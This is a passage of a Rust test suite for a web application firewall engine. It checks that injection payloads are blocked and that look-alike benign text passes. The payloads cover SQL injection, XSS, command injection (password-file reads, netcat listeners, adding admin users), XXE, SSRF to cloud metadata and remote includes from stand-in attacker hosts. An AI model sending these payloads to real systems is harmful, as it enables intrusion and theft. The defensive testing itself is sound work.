        ("/x/@XSI:noNamespaceSchemaLocation", "file:///etc/passwd"),
        (
            "/xs:schema/xs:include/@namespace",
            "http://xxe.example.net/",
        ),
        ("/doc/xi:include/@href", "\\\\attacker\\share\\x.xml"),
        (
            "/project/@xsi:schemaLocation",
            "http://maven.apache.org/POM/4.0.0 http://maven.apache.org@evil.example/x.xsd",
        ),
        (
            "/x/@xsi:schemaLocation",
            "urn:x http://w3.org.evil.example/x.xsd",
        ),
        ("/x/@xsi:schemaLocation", "urn:x http://evilw3.org/x.xsd"),
        (
            "/x/@xsi:schemaLocation",
            "urn:x jar:http://www.w3.org/x.jar!/a.xsd",
        ),
    ];
    for (name, value) in attacks {
        let f = at(name, value);
        assert!(
            f.blocks(threshold) && f.hits.iter().any(|h| h.class == "xxe"),
            "missed {name} {value:?}: {:?}",
            f.hits
        );
    }
    let legit = [
        ("/x/@xsi:schemaLocation", "order.xsd"),
        (
            "/project/@xsi:schemaLocation",
            "http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd",
        ),
        (
            "/gpx/@xsi:schemaLocation",
            "http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/1/1/gpx.xsd",
        ),
        (
            "/beans/@xsi:schemaLocation",
            "http://www.springframework.org/schema/beans https://www.springframework.org/schema/beans/spring-beans.xsd",
        ),
        ("/x/@href", "http://example.com/docs"),
        ("/x/homepage", "https://example.com/"),
        ("/x/@namespace", "http://example.com/ns"),
    ];
    for (name, value) in legit {
        assert!(
            !at(name, value).blocks(threshold),
            "flagged {name} {value:?}"
        );
    }
}

#[test]
fn stacked_statements_set_operators_and_cut_short_string_breaks() {
    table(
        "sqli",
        Q,
        &[
            ";update users",
            "; UPDATE accounts SET",
            "';select p",
            "\";SELECT name",
            "x');drop table t",
            ";drop",
            ";truncate[xx",
            ";RePLAcE/*test*/test(id) VALUES (1, 'x')",
            "1; declare @b",
            "'; set @a = 1",
            "except select.1,2",
            "1 EXCEPT ALL SELECT 1,2 FROM dual",
            "0 intersect select null, null",
            "x except values(1,2)",
            "EXECUTE IMMEDIATE 'DROP TABLE t'",
            "exec master.dbo.xp_cmdshell",
            "'x'!='y",
            "'1001'='10",
            "' or xyz-",
            "' xor abcdefg!",
            "\" and 5",
            "' or abc",
        ],
        &[
            "Hi; update me later",
            "see above; drop me a line",
            "select your plan; update it later",
            "&nbsp;select all",
            "all colours except select 3 items",
            "everyone except select premium users",
            "drivers except select ones from the list",
            "we execute immediate actions",
            "Union Station",
            "O'Reilly or Smith",
            "Dunkin' or Starbucks",
            "'a' is for apple",
            "rock 'n' roll or jazz",
            "'Tis the season",
            "it is your parents' or yours",
        ],
    );
    table(
        "sqli",
        FieldKind::BodyKey,
        &["; select", "';drop table users--"],
        &["select", "update_at", "drop_off;note"],
    );
}

#[test]
fn timers_on_code_variables_and_namespaced_vml() {
    table(
        "xss",
        Q,
        &[
            "setInterval(code, 1)",
            "setTimeout(payload,0)",
            "<:vmlframe src=x>",
            "<x:vmlframe src=//evil>",
        ],
        &[
            "set the interval to 1 minute (code 1)",
            "setTimeout(handler) docs",
            "useEffect(() => {\n  const id = setInterval(fetchStatus, 5000);\n  return () => clearInterval(id);\n}, []);",
            "setTimeout(resolve, 250)",
            "vmlframe is a legacy tag",
            "time: 12:30 <br>",
        ],
    );
}

#[test]
fn shell_words_hidden_by_status_pid_and_last_argument_expansions() {
    table(
        "cmdi",
        Q,
        &[
            "www.google.com;c$?at /et$?c/pas$?swd",
            "x;c$_at /etc/hosts",
            "una$$me -a",
        ],
        &["price: US$$5", "the $_ variable", "total $? marks", "a$_b"],
    );
}

#[test]
fn response_splitting_from_body_fields_and_html_after_a_blank_line() {
    table(
        "crlf",
        FieldKind::BodyValue,
        &[
            "x\r\nContent-Length: 0",
            "a\r\nSet-Cookie: sid=1",
            "a\nLocation: https://evil.example/",
            "a\r\nHTTP/1.1 200 OK",
            "a\r\nTransfer-Encoding: chunked",
        ],
        &[
            "soundtrack Gympl\r\nanything",
            "budget foo)</bar>\n",
            "Dear team,\r\nLocation: Paris office, 3rd floor",
            "line one\nline two: content length matters",
            "Deliver to:\nHTTP 200 reports",
        ],
    );
    table(
        "crlf",
        FieldKind::CookieValue,
        &[
            "munchmuch\r\n\r\n<HTML><title></title></HTML>",
            "x\n\n<script>",
        ],
        &["munchmuch", "a\r\nb"],
    );
}

#[test]
fn more_cloud_metadata_host_names() {
    table(
        "ssrf",
        Q,
        &[
            "https://metadata.packet.net/userdata",
            "http://metadata.platformequinix.com/metadata",
        ],
        &["https://packet.net/docs", "https://example.com/metadata"],
    );
}

#[test]
fn payloads_wrapped_in_one_xml_element_are_read_as_its_text() {
    table(
        "sqli",
        Q,
        &[
            "<string>1 or true</string>",
            "<string>&#39; or &#39;&#39;=&#39;</string>",
            "<string>admin&#34; --</string>",
            "<string>42 or 2&gt;1</string>",
            "<v>&#39;x&#39;!=&#39;y</v>",
        ],
        &[
            "<string>hello world</string>",
            "<b>bold</b> and <i>1 or 2</i>",
            "<p>select your plan</p>",
            "<name>O&#39;Reilly</name>",
            "<string></string>",
            "<a>1 or true</b>",
        ],
    );
}

#[test]
fn dialogs_passed_as_values_redirections_net_queries_and_razor() {
    table(
        "xss",
        Q,
        &[
            "(alert)(1)",
            "[1].find(alert)",
            "x.then(eval)",
            "top[/al/.source+/ert/.source](1)",
        ],
        &[
            "set priority (alert) (1 of 3)",
            "find alert settings",
            "regex /ab/ source code",
            "then eval the results",
        ],
    );
    table(
        "cmdi",
        Q,
        &[
            ";echo 'hello' > /tmp/x",
            "| sort names >> ~/.bashrc",
            "; cat data 2>&1",
            "| net user",
            "& net localgroup administrators",
            "x; net user hacker p4ss /add",
        ],
        &[
            "echo chamber > most rooms",
            "a > b; sort later",
            "Revenue | net income",
            "(net users count)",
            "price > 5 | more info",
        ],
    );
    table(
        "ssti",
        Q,
        &["@(7*7)", "@( 1337 + 1 )"],
        &["@(username)", "email me @(work)", "@(2021)"],
    );
}

#[test]
fn stream_wrappers_in_a_path_whose_double_slash_was_merged() {
    table(
        "lfi",
        FieldKind::Path,
        &[
            "/php:/filter/convert.base64-encode/resource=index.php",
            "/expect:/id",
            "/a/PHAR:/x.phar/y",
            "/compress.zlib:/etc/passwd",
        ],
        &[
            "/v1/files/123:download",
            "/proxy/https:/example.com/logo.png",
            "/docs/php/filter",
            "/v1/data:batchGet",
        ],
    );
}

#[test]
fn windows_net_commands_need_a_switch_or_a_share_not_prose() {
    table(
        "cmdi",
        Q,
        &[
            "net user hacker P@ss /add",
            "net localgroup administrators hacker /add",
            "net1 user admin /domain",
            "net use z: \\\\10.0.0.5\\c$",
            "x; net user",
            "a | net localgroup administrators",
        ],
        &[
            "net user growth was 5% this quarter",
            "the net use of funds",
            "net share price rose",
            "net group sales / total",
            "net view of the market",
        ],
    );
}

#[test]
fn commands_assembled_from_variables_traps_and_signals() {
    table(
        "cmdi",
        Q,
        &[
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "c4=\\ ;c3=t;c2=a;c1=c;a1=/;a2=e;a3=t;a4=c;$c1$c2$c3$c4$a1$a2$a3$a4",
            "a=nc&&$a -nlvp 555",
            "x=wh;y=oami;${x}${y}",
            ";trap 'rm -rf /tmp/x' EXIT",
            "kill '-'9\n",
            "kill -9 1234",
            ";ex -c:\\!pwd",
        ],
        &[
            "price=$5; total=$price",
            "a=1 and then $b",
            "set x=10 then pay $x dollars",
            "the trap is set; ex wife",
            "kill -9 is harsh",
            "kill bill",
            "it's a trap",
        ],
    );
}

#[test]
fn header_lines_behind_encoded_breaks_in_header_values() {
    table(
        "crlf",
        FieldKind::HeaderValue,
        &[
            "Headerdata%0dInjectedHeader: response_splitting_code",
            "en%0d%0aX-Forwarded-Host: evil.example",
            "v%0aSet-Cookie:%20a=b",
        ],
        &[
            "text/html, application/xhtml+xml",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
            "max-age=0%0d%0a",
            "a:b",
        ],
    );
}

#[test]
fn uploads_named_like_server_or_credential_configuration() {
    let threshold = Policy::default().threshold();
    let scan_at = |location: Location<'static>, kind: FieldKind, value: &str| {
        let mut budget = Budget::default();
        Engine::builtin().inspect(
            [Field::new(location, kind, value.as_bytes())],
            &Policy::default(),
            &mut budget,
        )
    };
    let attacks = [
        ".htaccess",
        "web.config",
        ".env",
        ".boto",
        "wp-config.php.bak",
        "wp-config_php.txt",
        "config.yml ",
        "../.ssh/authorized_keys",
        "id_rsa",
    ];
    let legit = [
        "report.pdf",
        "environment.png",
        "my-config.json",
        "settings.png",
        "config.yml.txt",
        "holiday.jpeg",
    ];
    for (location, kind) in [
        (Location::new("filename", "upload"), FieldKind::Filename),
        (
            Location::new("header", "x-filename"),
            FieldKind::HeaderValue,
        ),
    ] {
        for a in attacks {
            let f = scan_at(location.clone(), kind, a);
            assert!(f.blocks(threshold), "missed {kind} {a:?}");
        }
        for l in legit {
            let f = scan_at(location.clone(), kind, l);
            assert!(!f.blocks(threshold), "flagged {kind} {l:?}: {:?}", f.hits);
        }
    }
    // Other headers may carry such words freely.
    let f = scan_at(
        Location::new("header", "x-note"),
        FieldKind::HeaderValue,
        "config.yml",
    );
    assert!(!f.blocks(threshold), "{:?}", f.hits);
}

/// Scans one request made of `(scope, name, kind, value)` fields.
fn scan_request(fields: &[(&'static str, &str, FieldKind, &str)]) -> Findings {
    let mut budget = Budget::default();
    Engine::builtin().inspect(
        fields.iter().map(|(scope, name, kind, value)| {
            Field::new(Location::new(scope, *name), *kind, value.as_bytes())
        }),
        &Policy::default(),
        &mut budget,
    )
}

#[test]
fn spaced_namespaced_and_breakout_tags_data_markup_and_escaped_identifiers() {
    table(
        "xss",
        Q,
        &[
            "$<f o r m",
            "x<d i a l o g",
            "<s c r i p t>",
            "< x: script",
            "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">",
            "<\"onwebkitplaybacktargetavailabilitychanged=",
            "'formaction=javascript:alert(1)",
            "data: , <x>",
            "data:,<svg onload=alert(1)>",
            "\"in \\u0076\\u0061l\\u0075e\\u004F\\u0066=",
            "\\u{61}\\u{6c}ert(1)",
            "atob()",
            "btoa( )",
        ],
        &[
            "<a b c",
            "I <3 u",
            "a <b>bold</b> claim",
            "<a bold claim",
            "if x < y: style it",
            "<atom:link href=\"https://example.com/feed\" rel=\"self\"/>",
            "<xs:import namespace=\"urn:x\"/>",
            "it's formaction time",
            "data: 1, 2, 3",
            "data:image/png;base64,iVBORw0KGgo=",
            "caf\\u00e9 \\u00fcber",
            "\\u003cb\\u003e",
            // Encoders that escape every character (gotestwaf's JSUnicode) escape the
            // operators too.
            "\\u0048\\u0065\\u006c\\u006c\\u006f\\u0020\\u0028\\u0077\\u006f\\u0072\\u006c\\u0064\\u0029",
            "\\u0041\\u0043\\u004d\\u0045 Corp",
            "atob(encoded) decodes base64",
            "btoa",
        ],
    );
    table(
        "xxe",
        FieldKind::HeaderValue,
        &[
            "foo!ENTITY % bar SYSTEM",
            "x!ENTITY ext PUBLIC \"-//x\" \"http://e.example\"",
        ],
        &["Mozilla/5.0 (X11; Linux x86_64)", "ENTITY system of record"],
    );
}

#[test]
fn remote_include_probes_backslashed_hosts_and_numeric_addresses() {
    table(
        "rfi",
        Q,
        &[
            "file?",
            "http?",
            "https??",
            "hTTps://attacker.example/c99.php#",
            "http://evil.example/shell.txt##",
        ],
        &[
            "http",
            "what is http? a protocol",
            "https://example.com/a?b=1",
            "https://example.com/docs/page#",
            "https://example.com/index.php#section-2",
        ],
    );
    // Backslashed scheme-relative URLs leave the site through a redirect.
    table(
        "redirect",
        Q,
        &[
            "/\\attacker.example",
            "\\/attacker.example/login",
            "/\\/evil.example.com:8443/",
            "https:/\\evil.example",
        ],
        &[
            "/dashboard",
            "//cdn.example.com/lib.js",
            "/\\d{3}-\\d{4}/",
            "\\/api\\/v1\\/users",
            "C:\\Users\\me",
        ],
    );
    table(
        "ssrf",
        Q,
        &[
            "http://\\\\l\\\\o\\\\c\\\\a\\\\l\\\\h\\\\o\\\\s\\\\t/",
            "http://evil\\.example/",
            "http:123456789",
            "http://0x08080808/",
            "http://0x7f.0x0.0x0.0x1/",
        ],
        &[
            "https://cdn.example.com/a.png",
            "http://example.com/path\\file",
            "http://10.5.1.2.example.com/",
            "https://example.com:8443/x",
            "http://2024.example.org/",
        ],
    );
    // A URL where a server directory or include path belongs.
    for name in [
        "mosConfig_absolute_path",
        "_CONF[path]",
        "GALLERY_BASEDIR",
        "config[root_dir]",
    ] {
        let f = scan_request(&[("query", name, Q, "https://foo.example/x")]);
        assert!(
            f.hits.iter().any(|h| h.class == "rfi"),
            "missed {name}: {:?}",
            f.hits
        );
    }
    for (name, value) in [
        ("avatar", "https://cdn.example.com/a.png"),
        ("redirect_uri", "https://app.example.com/callback"),
        ("base_path", "/srv/app"),
        ("image_path", "https://cdn.example.com/a.png"),
    ] {
        let f = scan_request(&[("query", name, Q, value)]);
        assert!(f.hits.is_empty(), "flagged {name}={value}: {:?}", f.hits);
    }
}

#[test]
fn php_ini_directives_glued_function_names_and_hidden_calls() {
    table(
        "php",
        Q,
        &[
            "memory_limit = 512M",
            "extension=true",
            "mbstring.regex_retry_limit=true",
            "x=1\nunserialize_max_depth=0",
            "FOOfsockopen()",
            "FOOGzInFlAtE()",
            "Shell_exec=(bla)",
            "checkdate/*x*/()",
            "serialize#c\n()",
            "FILE\r\n()",
        ],
        &[
            "https://api.example.com/rates?precision=4",
            "set memory_limit = 512M in php.ini",
            "extension = .txt",
            "extension=pdf",
            "session.timeout = 30",
            "Date.now = fn",
            "call_user_func (see docs)",
            "precision",
            "extension of the deadline",
            "zlib decoding is fast",
            "Issue #42\n(see below)",
            "I like C#\n(and F#)",
            "a new file\n(optional)",
            "range (1-10)",
        ],
    );
    table(
        "php",
        FieldKind::Path,
        &["/post/subSTR($x)", "/a/strlen( $_GET )"],
        &["/price/$5", "/v1/items(1)", "/docs/$ref"],
    );
    for (name, value) in [
        ("x-file-name", "fthi/sfewfda.php............."),
        ("x-filename", "uploads/shell.phtml"),
        ("x-file-name", "a.php907...."),
    ] {
        let f = scan_request(&[("header", name, FieldKind::HeaderValue, value)]);
        assert!(
            f.hits.iter().any(|h| h.class == "php"),
            "missed {name}: {value}: {:?}",
            f.hits
        );
    }
    for (name, value) in [
        ("x-file-name", "reports/2024/q1.pdf"),
        ("x-file-name", "notes/php-tips.txt"),
        ("user-agent", "Mozilla/5.0 (site.php)"),
    ] {
        let f = scan_request(&[("header", name, FieldKind::HeaderValue, value)]);
        assert!(f.hits.is_empty(), "flagged {name}: {value}: {:?}", f.hits);
    }
}

#[test]
fn js_function_definitions_bracketed_prototype_paths_and_orm_secret_lookups() {
    table(
        "nodejs",
        Q,
        &[
            "function() {",
            "function*gen(){",
            "(function(){ fetch('//x.example') })()",
            "function(){return 1}()",
        ],
        &[
            "function f(a, b){ return a }",
            "function () { return x }",
            "the function (of a system) is {unclear}",
            "a functional team",
            "function keys",
        ],
    );
    // People paste code into text fields: an invoked definition counts only in the URL.
    table(
        "nodejs",
        FieldKind::BodyValue,
        &["function() {"],
        &[
            "(function () { const total = items.length; render(total); })();",
            "function(){return 1}()",
        ],
    );
    table(
        "nodejs",
        FieldKind::QueryName,
        &[
            "a[constructor][prototype]",
            "a[constructor][prototype][onerror]",
        ],
        &["a[constructor]", "prototype[name]"],
    );
    table(
        "nodejs",
        FieldKind::BodyValue,
        &[r#"{"constructor": {"prototype": {"polluted": 1}}}"#],
        &[r#"{"constructor": "Brunel", "prototype": "v2"}"#],
    );
    // A parsed body: the key's location says what it is nested in.
    let key = |pointer: &str| {
        Engine::builtin().inspect(
            [Field::new(
                Location::new("json", pointer),
                FieldKind::BodyKey,
                b"prototype",
            )],
            &Policy::default(),
            &mut Budget::default(),
        )
    };
    let threshold = Policy::default().threshold();
    assert!(key("/constructor/prototype").blocks(threshold));
    assert!(key("/a/0/constructor/prototype").blocks(threshold));
    assert!(!key("/prototype").blocks(threshold));
    assert!(!key("/design/prototype").blocks(threshold));
    table(
        "orm",
        FieldKind::QueryName,
        &[
            "password__startswith",
            "password__isnull",
            "api_key__regex",
            "user__password__istartswith",
            "reset_token__gt",
        ],
        &[
            "username__startswith",
            "price__gte",
            "author__profile__country",
            "password",
            "password_confirm",
            "file_hash__exact",
        ],
    );
    table(
        "orm",
        FieldKind::BodyText,
        &["{\"password__isnull\":true}"],
        &["{\"note\":\"filter by password__startswith\"}"],
    );
}

#[test]
fn session_ids_in_urls_pass_when_the_referer_is_the_request_host() {
    let request = |name: &str, host: Option<&str>, referer: Option<&str>| {
        let mut fields = vec![("query", name, FieldKind::QueryName, name)];
        if let Some(h) = host {
            fields.push(("header", "host", FieldKind::HeaderValue, h));
        }
        if let Some(r) = referer {
            fields.push(("header", "referer", FieldKind::HeaderValue, r));
        }
        scan_request(&fields)
    };
    let threshold = Policy::default().threshold();
    for (name, host, referer) in [
        (
            "jsessionid",
            Some("example.com"),
            Some("http://attacker.example/"),
        ),
        (
            "sessionid",
            Some("app.example.com"),
            Some("https://attacker.example.com/"),
        ),
        ("_session_id", Some("example.com"), None),
        ("phpsessid", None, Some("https://example.com/")),
        (
            "jsessionid",
            Some("example.com"),
            Some("https://example.com@evil.example/"),
        ),
        (
            "session-id",
            Some("example.com"),
            Some("https://example.com.evil.example/"),
        ),
    ] {
        let f = request(name, host, referer);
        assert!(
            f.blocks(threshold) && f.hits.iter().any(|h| h.class == "fixation"),
            "missed {name} host={host:?} referer={referer:?}: {:?}",
            f.hits
        );
    }
    for (name, host, referer) in [
        (
            "jsessionid",
            Some("example.com"),
            Some("http://example.com/another-page"),
        ),
        (
            "sessionid",
            Some("myapp.com:8443"),
            Some("https://MyApp.com:8443/prev"),
        ),
        (
            "session_id",
            Some("example.com"),
            Some("https://checkout.example/"),
        ),
    ] {
        let f = request(name, host, referer);
        assert!(
            f.hits.is_empty(),
            "flagged {name} host={host:?} referer={referer:?}: {:?}",
            f.hits
        );
    }
}

#[test]
fn sql_probes_reopening_the_string_comparing_literals_and_opening_clauses() {
    table(
        "sqli",
        Q,
        &[
            "1' and starts_with(password) and 'true",
            "' * from = 1 or '9",
            "admin@example.com\\' or glob (id,id);",
            "'glob 1;",
            "1='1' or-- -",
            "b,1=1",
            "x,'a'='a'",
            "'{\"a\":2}' < '$.a' = 7",
            "'{\"a\":2}' -> '$.a' = 2",
            "testing-1 waitfor delay '0:0:15' --",
            "HAVING 1=",
            "pay=oR pmw==",
            "pay=AND backend_layout!=",
            "or 88",
            "xor 5-",
            "'  or 3,4,2@!",
            "from `db`.`users` limit",
            "FROM termine GROUP BY tag1",
            "FROM ack_variable WHERE name=\"cron_last\";",
            "VALUES ('192.168.0.1', 'test')",
            "select 0x616263",
            "select pg_sleep",
            "=(select",
            "var= @.= ( SELECT",
            "declare @b",
            "DECLARE @x varchar(99)",
            "9999 or {if length((/*!5000select username",
            "if(2=",
            "iif(1234<",
            ") when 234 then",
            "case when 1=1 then 1",
            "2.2250738585072011e-308",
            "1.e(ascii(1))",
            "1.e.tables",
            "Xunionselectfrom",
            "1 UNIONALLSELECT 1",
            "admin`;",
            "admin`;--",
            "pay=;drop",
            "pay=;update users",
            "';print'",
        ],
        &[
            "or 2 more",
            "2 or 3",
            "and 7 oranges",
            "from Paris where we met",
            "from today limit your sugar",
            "From now, order by phone",
            "values (honesty, trust)",
            "select sleep mode",
            "Select sleep timer (30 min)",
            "(select one)",
            "I declare @john the winner",
            "/*! jQuery v3.6 | (c) OpenJS */",
            "if (a or b) then c",
            "if(x=1){",
            "Just in case when needed then call",
            "when 5pm then",
            "Section 1.e(ii)",
            "reunion selection",
            "column `user_name`; next",
            "4294967296",
            "x=1,y=1",
            "2+2=4",
            "ratio 1:1",
            "it's 'fine' or 'not",
            "and found != 0 at line 998",
            "min() or max() is extended",
            "area() and size() in bytes",
            "dlopen@@GLIBC_2.2.5",
            "string(REPLACE \"@@DIFF@@\" \"diff\")",
            "if ($x eq 'EXEC') {",
            "if the \"select\" method fails",
            "use the \"--verbose\" option",
            "\"--stress\" option",
            "<a href=\"#top\">Top</a>",
            "let x: Oid<'static> = oid!(1.2);",
            "and '!!' to '!' are enabled",
            "Hi; print this page",
        ],
    );
    table(
        "sqli",
        FieldKind::Path,
        &["/foo/24'union+all+select+1,2,3+from+aa/bar"],
        &["/foo/24+union+station/bar", "/o'reilly+union+select/books"],
    );
}

#[test]
fn an_http2_authority_is_the_site_a_session_id_referer_is_compared_with() {
    let threshold = Policy::default().threshold();
    let scan_head = |uri: &str, referer: &str| {
        let uri: http::Uri = uri.parse().unwrap();
        let mut headers = http::HeaderMap::new();
        headers.insert(http::header::REFERER, referer.parse().unwrap());
        let fields = rampart_detect::extract::head_fields(&uri, &headers).fields;
        let mut budget = Budget::default();
        Engine::builtin().inspect(fields, &Policy::default(), &mut budget)
    };
    // No Host header: the URI's authority stands for it.
    let same = scan_head(
        "https://example.com/login?jsessionid=abc123",
        "https://example.com/previous",
    );
    assert!(!same.blocks(threshold), "{:?}", same.hits);
    let foreign = scan_head(
        "https://example.com/login?jsessionid=abc123",
        "https://attacker.example/",
    );
    assert!(foreign.blocks(threshold), "{:?}", foreign.hits);
}

#[test]
fn ldap_filters_testing_constants_or_passwords() {
    table(
        "ldap",
        Q,
        &[
            "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
            "(|(uid=*)(userPassword=x))",
            "userPassword:2.5.13.18:=123",
            "unicodePwd:dn:=x",
        ],
        &[
            "wow (!(really)) (a=b)",
            "Smith & Sons (est. 1920)",
            "ratio (a=b) (c)",
            "x := 5",
            "time 10:30 := start",
            "(see: 2.5) and (a = b)",
            "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
            "(|(cn=Jane)(mail=jane@example.com))",
            "Tom & (Jerry = 2) friends",
        ],
    );
}

#[test]
fn dom_property_through_brackets_in_a_path() {
    table(
        "xss",
        FieldKind::Path,
        &["/document[\"cookie\"]", "/a/window['location']='x'"],
        &[
            "/documents/cookie",
            "/api/window[0]/cookie",
            "/document/self[1]",
        ],
    );
}

#[test]
fn payloads_split_by_tags_a_sanitizer_strips() {
    table(
        "xss",
        Q,
        &["\"autof<x>ocus o<x>nfocus=alert<x>(1)//"],
        &[
            "Use Vec<u8> or Vec<String>",
            "<b>bold</b> and <i>it</i>alic",
        ],
    );
    table(
        "sqli",
        Q,
        &["1 un<>ion sel<>ect password from users"],
        &["un<b>ion</b> members select a rep"],
    );
}

#[test]
fn xslt_instructions_in_values() {
    table(
        "xxe",
        FieldKind::BodyValue,
        &[
            "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
            "<xsl:include href=\"http://evil.example/x.xsl\"/>",
            "< xsl:copy-of select=\"document('/etc/passwd')\"/>",
            "system-property('xsl:vendor')",
            "concat(system-property( \"xsl:version\" ), '')",
        ],
        &[
            "Convert the file with XSL: value of the field goes first",
            "system-property('java.version') is read at startup",
            "the xsl:vendor property names the processor",
            "the xsl stylesheet is attached",
            "<xsd:element name=\"x\"/>",
        ],
    );
}

#[test]
fn oracle_dual_probes() {
    table(
        "sqli",
        Q,
        &[
            "\r\n select user from dual \r\n",
            "1 and 1=(select 1 from dual where 1=1)",
            "x' union select banner from sys.dual--",
        ],
        &[
            "please select a router from dual-band models",
            "select one from dual citizens and residents",
            "I selected the dual option",
        ],
    );
}

#[test]
fn jwt_header_parameters_read_before_the_signature_check() {
    use base64::Engine as _;
    let b64u = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    let jwt = |h: &str| {
        format!(
            "Bearer {}.{}.c2ln",
            b64u(h),
            b64u(r#"{"sub":"42","iss":"http://keycloak.internal/realms/a"}"#)
        )
    };
    let attacks = [
        jwt(r#"{"alg":"HS256","kid":"../../../../dev/null"}"#),
        jwt(r#"{"alg":"HS256","kid":"x' UNION SELECT 'secret'--"}"#),
        jwt(r#"{"alg":"RS256","jku":"http://169.254.169.254/keys"}"#),
    ];
    let legit = [jwt(r#"{"alg":"RS256","typ":"JWT","kid":"2024-05-key-1"}"#)];
    let attacks: Vec<&str> = attacks.iter().map(String::as_str).collect();
    let legit: Vec<&str> = legit.iter().map(String::as_str).collect();
    table("lfi", FieldKind::HeaderValue, &attacks[..1], &legit);
    table("sqli", FieldKind::HeaderValue, &attacks[1..2], &[]);
    table("ssrf", FieldKind::HeaderValue, &attacks[2..], &[]);
    // An unsecured token, a key URL off the issuer's site; an issuer naming its own key
    // set is ordinary.
    let trust = [
        jwt(r#"{"alg":"none","typ":"JWT"}"#),
        jwt(r#"{"alg":"nOnE"}"#),
        // A key set on another site than the issuer's.
        jwt(r#"{"alg":"RS256","jku":"https://id.example.com/keys"}"#),
        jwt(r#"{"alg":"RS256","x5u":"https://evil.example/cert.pem"}"#),
    ];
    let legit = [
        jwt(r#"{"alg":"ES256","typ":"JWT","kid":"https://id.example.com/.well-known/jwks.json"}"#),
        format!(
            "Bearer {}.{}.c2ln",
            b64u(
                r#"{"alg":"RS256","jku":"https://id.example.com/realms/a/protocol/openid-connect/certs"}"#
            ),
            b64u(r#"{"sub":"42","iss":"https://id.example.com/realms/a"}"#)
        ),
        jwt(r#"{"alg":"HS256","typ":"JWT"}"#),
    ];
    let trust: Vec<&str> = trust.iter().map(String::as_str).collect();
    let legit: Vec<&str> = legit.iter().map(String::as_str).collect();
    table("jwt", FieldKind::HeaderValue, &trust, &legit);
    table("jwt", Q, &trust, &[]);
    // A key embedded in the header: trusted, it verifies the attacker's own signature.
    let embedded = jwt(r#"{"alg":"RS256","jwk":{"kty":"RSA","e":"AQAB","n":"u1SU1Lf"}}"#);
    table("jwt", FieldKind::HeaderValue, &[embedded.as_str()], &[]);
    // A DPoP proof carries its public key by design (RFC 9449), in the DPoP header.
    let proof = jwt(
        r#"{"typ":"dpop+jwt","alg":"ES256","jwk":{"kty":"EC","crv":"P-256","x":"l8t","y":"9VE"}}"#,
    );
    let proof = proof.trim_start_matches("Bearer ");
    let f = rampart_detect::Engine::builtin().inspect(
        [Field::new(
            Location::new("header", "dpop"),
            FieldKind::HeaderValue,
            proof.as_bytes(),
        )],
        &Policy::default(),
        &mut Budget::default(),
    );
    assert!(f.hits.is_empty(), "{:?}", f.hits);
}

#[test]
fn odata_filters_comparing_two_literals() {
    table(
        "odata",
        Q,
        &[
            "$filter=Name eq 'x' or 1 eq 1",
            "Name eq 'a') or ('a' eq 'a",
            "$expand=Orders($filter=1 eq 1;$select=*)",
            "Price lt 10 or true eq true",
        ],
        &[
            "Price lt 10 and contains(Name,'Bike')",
            "Status eq 'Open' or Status eq 'Pending'",
            "$filter=Age ge 18 and Age le 65",
            "rooms eq 2",
        ],
    );
}

#[test]
fn sql_probes_next_to_form_answers_and_prose_that_open_like_clauses() {
    table(
        "sqli",
        Q,
        &[
            "or 88",
            "xor 5-",
            "'  or 3,4,2@!",
            "|| 7",
            "or 3,4",
            "VALUES ('1.2.3.4', 'x'))",
            "values ('a', 1);",
            "values (1, 2), (3, 4)",
            ") like (",
            ")like(",
            " case when condition1 then result1",
            "(case when 1=1 then 1 else 0 end)",
            "DR/**/OP/*bypass deny listing*/sampletable",
            "1 and benchmark(10000000,md5(1))",
            "BENChmARk(2999/**/999,Md5(",
            "union select version()",
            "substr()",
            "-ascii(substring(user(),1,1))",
        ],
        &[
            "or 2",
            "and 3",
            "1 or 2",
            "values (in order of importance): speed, cost",
            "values (1, 2) and more",
            "Values ('low', 'high') are allowed",
            "a) like (b)",
            "Case when done: then relax",
            "in case when needed then call me",
            "src/*.js",
            "a/**/b",
            "The benchmark (v2) ran for 20 minutes.",
            "see rsvg-convert(1) and dns.reverse()",
            "Fixed crashes in avgpp() and reverse()",
            "StreamResource::Cast() was removed",
            "The util.isNull() API is deprecated",
        ],
    );
}

#[test]
fn sql_words_in_prose_code_and_markup_pass() {
    table(
        "sqli",
        FieldKind::BodyValue,
        &[
            "a b'-- 'x",
            "a b'--'x",
            "admin'-- 'x",
            "a'or'a",
            "\\'or'1",
            "\"!\"",
        ],
        &[
            "select your plan",
            "drop me a line",
            "union members voted on the deal",
            "Insert into the slot (gently)",
            "he said 'select * from users' is a query",
            "<a href=\"#top\">Top</a>",
            "HREF=\"index.html#AEN30\"",
            "use the \"--\" option",
            "\"--\" , but this doesn't work with the \"#!\" convention.",
            "\"---------------------\",",
            "Use '#!/usr/bin/python' instead of '#!/usr/bin/env python'.",
            "A recent mingw compiler has started to complain on \"#warning Please\ninclude winsock2.h\" first.",
            "make targets\". Fixed by above. (Closes: #746443).",
            "NODE_OPTIONS=\"--report-uncaught-exception \\",
            "dard-4\" --disk-size-gb=DISK_SIZE_GB; default=100",
            "That is why semantic patches 'contrib/coccinelle/*.pending.cocci'",
            "(ioctl_decode) <case '!'>: Call seccomp_ioctl.",
            "upstream: Restore missing \"!\" in TEST_SSH_ELAPSED_TIMES test.",
            "print.c:449:46: error: logical 'or' of equal expressions [-Werror=logical-op]",
            "- argvsplit: do not consider ' and \" to have similar rules",
            "surrounding quotes from string, \\' or \\\"",
            "found = len(list0) == 0 or len(list1) == 0",
            "if (!defined($server_cert) || ($server_cert == 0)) {",
            "((size == 0) && (ptr != NULL)).",
            "// OK, 1 == 1",
            "enable (NF_CALL_ARPTABLES > 0) or\ndisable (NF_CALL_ARPTABLES == 0) arptables hooks",
            "and libstdc++ >= 6.0.25 (`GLIBCXX_3.4.25`). These are available on",
            "sb=0 and sb=1. Value coverage is now complete.",
            "A selector can use various implementations (select(), poll(), epoll()...)",
            "The reference (&) and dereference (@) operators will be discussed",
            ">>> def fake_sleep(time):\n...     print \"sleep(%s) called\" % time",
            "Instead of sec_ptr, use struct bfd_section\";",
